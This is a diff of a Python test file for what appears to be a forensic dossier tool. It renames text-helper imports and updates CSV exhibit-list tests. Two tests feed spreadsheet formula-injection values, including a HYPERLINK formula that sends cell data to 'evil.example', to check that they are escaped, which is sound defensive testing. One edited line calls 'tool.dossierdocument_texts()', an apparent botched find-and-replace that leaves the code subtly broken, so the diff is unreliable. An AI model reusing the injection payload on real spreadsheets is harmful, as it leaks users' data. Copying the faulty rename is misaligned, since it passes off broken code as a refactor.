@@ -15,8 +15,8 @@ import pytest
 from cautery.messages import in_language, languages, say, term, text_of
 from cautery.model import ErrorRate, ExhibitId
 from cautery.pages.case_report.view import SealedLine, StreamView
-from cautery.pages.dossier.exhibits import exhibit_list
-from cautery.pages.dossier.render import _texts, method
+from cautery.pages.dossier.exhibits import exhibit_lines, exhibit_list
+from cautery.pages.dossier.render import document_texts, method
 from cautery.pages.dossier.view import rate_views, time_view
 from cautery.pages.dossier.words import rate_key, rate_name, style, written
 
@@ -47,7 +47,7 @@ def test_the_languages_are_those_of_the_first_courts() -> None:
 
 @pytest.mark.parametrize("language", FOREIGN)
 def test_each_text_of_a_dossier_is_translated(tool: ModuleType, language: str) -> None:
-    texts = [text for text in tool.dossier_texts() if isinstance(text, str)]
+    texts = [text for text in tool.dossierdocument_texts() if isinstance(text, str)]
     assert len(texts) > 150
     with in_language(language):
         alike = {text for text in texts if text_of(text) == text}
@@ -74,14 +74,14 @@ def test_a_translation_that_lacks_a_text_or_changes_a_place_is_refused(
 
 def test_the_words_are_those_of_the_language() -> None:
     with in_language("fr"):
-        assert _texts()["ratio"] == "Rapport de vraisemblance"
+        assert document_texts()["ratio"] == "Rapport de vraisemblance"
         assert say(term("verbal", "very strong support")) == "soutien très fort"
         assert method(computed_again=True)[3].endswith("sans Cautery.")
     with in_language("it"):
-        assert _texts()["title"] == "Dossier"
+        assert document_texts()["title"] == "Dossier"
         assert say(term("verbal", "weak support")) == "supporto debole"
     with in_language("es"):
-        assert _texts()["exhibits"] == "Piezas"
+        assert document_texts()["exhibits"] == "Piezas"
 
 
 def test_numbers_have_the_marks_of_the_language() -> None:
@@ -117,7 +117,7 @@ def test_a_bracket_is_rounded_outwards() -> None:
 def test_no_address_runs_in_a_spreadsheet_that_parts_at_semicolons() -> None:
     sealed = SealedLine(exhibit=ExhibitId("sha256:" + "0" * 64), what=term("exhibit", "playlist"))
     hostile = StreamView(number=1, url="http://pirate.example/;=1+1;x", sealed=(sealed,))
-    _, line = exhibit_list([hostile], in_bag=None).decode().splitlines()
+    _, line = exhibit_list(exhibit_lines([hostile], in_bag=None)).decode().splitlines()
     assert line.startswith("1,http://pirate.example/;'=1+1;x,")
 
 
@@ -125,5 +125,5 @@ def test_no_kind_that_somebody_appended_runs_in_a_spreadsheet() -> None:
     what = term("exhibit", '=HYPERLINK("http://evil.example/?x="&A1)')
     sealed = SealedLine(exhibit=ExhibitId("sha256:" + "0" * 64), what=what)
     stream = StreamView(number=1, url="http://pirate.example/", sealed=(sealed,))
-    _, row = csv.reader(exhibit_list([stream], in_bag=None).decode().splitlines())
+    _, row = csv.reader(exhibit_list(exhibit_lines([stream], in_bag=None)).decode().splitlines())
     assert row[2].startswith("'=HYPERLINK")
